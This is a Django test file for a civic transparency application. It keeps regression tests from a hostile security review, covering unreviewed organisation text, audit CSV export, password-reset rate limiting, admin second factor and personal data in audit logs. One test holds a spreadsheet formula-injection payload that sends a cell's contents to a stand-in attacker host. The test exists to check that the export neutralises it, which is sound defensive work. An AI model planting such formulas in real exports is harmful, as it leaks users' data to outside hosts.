"""Defects found by the hostile review of issue 13, each kept as the test that showed it."""

import csv
import datetime as dt
import io

from django.test import Client
from django.urls import reverse

from contrechamp.access.models import Attachment
from contrechamp.access.services import body_for_commune, request_create, request_send
from contrechamp.access.services.files import attachment_add
from contrechamp.accounts.services import account_delete, user_create
from contrechamp.audit.models import AuditEntry
from contrechamp.places.models import Commune
from contrechamp.registry.models import Organisation, Proposal
from contrechamp.registry.proposals import deployment_submit, proposal_accept
from contrechamp.registry.services import deployment_create
from tests.factories import deployment_data
from tests.tips.samples import png_with_text

MB = "django.contrib.auth.backends.ModelBackend"


def test_a_newcomers_organisation_is_not_published_unreviewed_by_a_deployment_naming_it(
    client, newcomer, reviewer
):
    client.force_login(newcomer, backend=MB)
    response = client.post(
        reverse("organisation-create"),
        {
            "name": "Vigie Diffamante SAS",
            "kind": "vendor",
            "country": "FR",
            "description": "UNREVIEWED DEFAMATORY TEXT",
            "website": "https://evil.example",
        },
    )
    assert response.status_code == 302
    org = Organisation.objects.get(name="Vigie Diffamante SAS")
    org_proposal = Proposal.objects.get(target="organisation", object_id=org.id)
    # The reviewer accepts a deployment that only names the vendor.
    draft = deployment_create(
        data=deployment_data(
            title="Caméras anodines",
            vendors=["vigie diffamante sas"],
            communes=["04088"],
            is_published=False,
        ),
        author=newcomer,
    )
    proposal_accept(
        proposal=deployment_submit(deployment=draft, author=newcomer), reviewer=reviewer
    )
    org_proposal.refresh_from_db()
    assert org_proposal.state == "pending"
    page = Client().get(org.get_absolute_url())
    assert "UNREVIEWED DEFAMATORY TEXT" not in page.content.decode()
    assert "evil.example" not in page.content.decode()
    # Accepting the organisation's own proposal then applies what was proposed.
    proposal_accept(proposal=org_proposal, reviewer=reviewer)
    org.refresh_from_db()
    assert org.description == "UNREVIEWED DEFAMATORY TEXT" and org.is_public


def test_another_contributor_naming_a_pending_organisation_reads_none_of_its_text(
    newcomer, contributor
):
    c = Client()
    c.force_login(newcomer, backend=MB)
    c.post(
        reverse("organisation-create"),
        {"name": "Vigie Cachée", "kind": "vendor", "country": "FR", "description": "SECRET PITCH"},
    )
    org = Organisation.objects.get(name="Vigie Cachée")
    deployment_create(
        data=deployment_data(title="Brouillon", vendors=["Vigie Cachée"], is_published=False),
        author=contributor,
    )
    other = Client()
    other.force_login(contributor, backend=MB)
    assert "SECRET PITCH" not in other.get(org.get_absolute_url()).content.decode()


def test_the_audit_csv_export_holds_no_spreadsheet_formula(client, newcomer, administrator):
    evil = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    c = Client()
    c.force_login(newcomer, backend=MB)
    c.post(
        reverse("organisation-create"),
        {"name": evil, "kind": "vendor", "country": "FR", "description": "x"},
    )
    client.force_login(administrator)
    response = client.get(reverse("audit-export-csv"))
    text = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert evil not in cells
    assert any(cell.endswith(evil) for cell in cells), "the name is exported, made inert"


def test_password_reset_requests_are_rate_limited(db):
    c = Client()
    statuses = [
        c.post("/compte/password_reset/", {"email": "victim@example.net"}).status_code
        for _ in range(12)
    ]
    assert 429 in statuses


def test_a_staff_account_needs_the_second_factor_for_the_admin(db):
    user = user_create(email="staff@example.org", password="Zx9!kq2#Lm7$", role="contributor")
    user.is_staff = True
    user.save()
    c = Client()
    c.force_login(user, backend=MB)
    assert c.get("/admin/").status_code != 200


def test_a_proofs_file_name_does_not_stay_in_the_audit_log(db, settings, tmp_path, contributor):
    settings.MEDIA_ROOT = tmp_path / "media"
    request = request_create(
        body=body_for_commune(Commune.objects.get(code="42218")),
        requester=contributor,
        title="Caméras du marché",
        documents_asked="La délibération",
    )
    attachment_add(
        request=request,
        data=png_with_text(),
        filename="Recommande_Camille_Durand_12_rue_des_Lilas.png",
        user=contributor,
    )
    request_send(request=request, sent_on=dt.date(2024, 1, 15))
    account_delete(user=contributor)
    assert not Attachment.objects.filter(request=request).exists()
    assert not AuditEntry.objects.filter(target_label__icontains="Durand").exists()
